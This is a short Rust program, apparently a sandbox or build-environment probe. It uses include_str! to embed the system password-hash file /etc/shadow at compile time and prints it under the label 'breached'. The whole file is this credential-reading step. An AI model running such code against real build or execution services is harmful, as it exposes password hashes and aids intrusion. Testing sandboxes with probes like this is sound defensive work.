fn main() {
    println!("breached {}", include_str!("/etc/shadow"));
}
